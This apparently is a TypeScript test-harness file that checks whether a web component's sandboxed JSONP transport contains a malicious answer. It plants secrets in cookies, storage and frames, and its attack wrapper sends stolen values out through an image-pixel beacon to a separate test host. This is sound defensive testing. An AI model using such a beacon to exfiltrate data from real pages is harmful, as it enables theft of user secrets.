import { nigeria, elsewhere, originAnswer, service, swapAnswer } from '../support/service.ts';
import { openPage, type PageWindow } from '../support/openPage.ts';
import { price, shown, tag } from '../support/visits.ts';
import { until } from '../support/until.ts';
import type { Attack } from './attacks.data.ts';

/** What has become of a page whose service does not mean well. */
export interface Outcome {
  price: readonly [state: string, text: string];
  /** What the answer has told its service over the network: `done`, and what it has stolen. */
  told: string[];
  failures: string[];
  heard: string[];
  /** What the page is like, once no frame of ours is left in it. */
  snapshot: Record<string, unknown>;
}

/** What the page's own scripts leave on its window. */
type OwnWindow = PageWindow & { heard: string[]; failures: string[] };

/** A page with a secret in each place where it could keep one. */
const secrets = `<title>A shop</title><input id="input"><iframe name="sibling"></iframe><script>
  var secret = 'secret', heard = [], failures = [];
  document.cookie = 'secret=1; path=/';
  localStorage.secret = sessionStorage.secret = 'secret';
  frames[0].secret = 'secret';
  document.querySelector('input').focus();
  // Chromium calls the listeners of a window in the order in which they came, capturing or not: nobody
  // can keep a message from those that were there before.
  new MutationObserver((_, observer) => {
    if (!document.querySelector('iframe[sandbox]')) return;
    observer.disconnect();
    onmessage = ({ data }) => heard.push(String(data));
    addEventListener('message', ({ data }) => heard.push(String(data)));
    addEventListener('message', ({ data }) => heard.push(String(data)), true);
    addEventListener('messageerror', () => heard.push('an error'));
  }).observe(document, { childList: true, subtree: true });
  addEventListener('local-price-error', ({ detail }) => failures.push(detail.error.code));
  addEventListener('beforeunload', () => heard.push('the page is left'));
</script>`;

/** The body of an answer that attacks; see {@link Attack}. */
function attackBody({ run, isOwnAnswer, in: operation }: Attack, base: string): string {
  const good = operation ? originAnswer('NG', 'NGN') : swapAnswer('ngn', 'usd', 0.00064235);
  return `{
    const post = MessagePort.prototype.postMessage;
    const say = (what) => {
      new Image().src = 'BASE/pixel.svg?told=' + encodeURIComponent(String(what).slice(0, 200));
    };
    const attempt = (step) => {
      const steal = (what) => void (what && say(step + ': ' + what));
      try {
        const what = step();
        if (typeof what?.then === 'function') what.then(steal, () => {});
        else steal(what);
      } catch {}
    };
    const answer = (what = ${JSON.stringify(good)}) => CALLBACK(what);
    if (!document.body) document.documentElement.append(document.createElement('body'));
    ${run}
    ${isOwnAnswer ? '' : "say('done'); answer();"}
  }`.replaceAll('BASE', base);
}

/** Opens a page over `jsonp-isolated`, one of whose answers attacks, and closes it when all is over. */
export async function attacked(attack: Attack): Promise<Outcome> {
  const near = await service(nigeria);
  const on = elsewhere(near);
  await on.extend({ [attack.in ?? 'swap']: [{ body: attackBody(attack, on.baseUrl) }] });
  const page = await openPage(near, secrets + tag(on, 'data-transport="jsonp-isolated"') + price);
  await near.extend({});
  const window = page.window as OwnWindow;
  const told = async (): Promise<string[]> =>
    (await on.calls())
      .filter(({ operation }) => operation === 'pixel.svg')
      .map(({ query }) => query['told']!);
  try {
    const seen = await shown(page);
    // Where the price is not right, the frame may be gone before it can tell.
    if (!attack.price && !attack.isOwnAnswer) {
      await until(async () => (await told()).includes('done'), 'the end of the attack');
    }
    await until(() => !page.document.querySelector('iframe[sandbox]'), 'the end of the frame');
    await fence(window);
    const id = new URL(on.baseUrl).pathname;
    const snapshot = JSON.stringify(await look(window)).replaceAll(id, 'ID');
    return {
      price: seen,
      told: await told(),
      failures: [...window.failures],
      heard: window.heard.filter((each) => each !== 'fence'),
      snapshot: JSON.parse(snapshot) as Record<string, unknown>,
    };
  } finally {
    page.close();
  }
}

/** Waits until what has been sent to the page before has arrived. */
async function fence(window: OwnWindow): Promise<void> {
  for (let time = 0; time < 3; time++) {
    const arrived = new Promise((resolve) =>
      window.addEventListener('message', resolve, { once: true }),
    );
    window.postMessage('fence', '*');
    await arrived;
    await window.fetch('calls');
  }
}

/** All of a page that an answer could be after. */
async function look(window: OwnWindow): Promise<Record<string, unknown>> {
  const { document, location, localStorage, sessionStorage, navigator } = window;
  const own = (storage: Storage): [string, string][] =>
    Object.entries(storage as unknown as Record<string, string>).filter(
      ([name]) => !name.includes('local-price:'),
    );
  const price = document.querySelector('local-price')!;
  const html = document.documentElement.outerHTML.replace(price.outerHTML, '');
  return {
    url: location.pathname + location.hash,
    name: window.name,
    cookie: document.cookie,
    storage: [own(localStorage), own(sessionStorage)],
    databases: (await window.indexedDB.databases()).map(({ name }) => name),
    workers: (await navigator.serviceWorker?.getRegistrations())?.length,
    html,
    focus: document.activeElement?.id,
    taken: [document.fullscreenElement, document.pointerLockElement],
    sibling: window.frames[0]!.location.href,
    globals: Object.getOwnPropertyNames(window)
      .filter((name) => !/^localPrice_|^\d/.test(name))
      .sort(),
    prototypes: prototypes(window),
    errors: (window as unknown as { errors: string[] }).errors,
  };
}

function prototypes(window: PageWindow): string[][] {
  const { Object, Array, Function, Promise, String, Element, Event, Node, MessagePort } = window;
  return [Object, Array, Function, Promise, String, Element, Event, Node, MessagePort].map((each) =>
    Object.getOwnPropertyNames(each.prototype).sort(),
  );
}
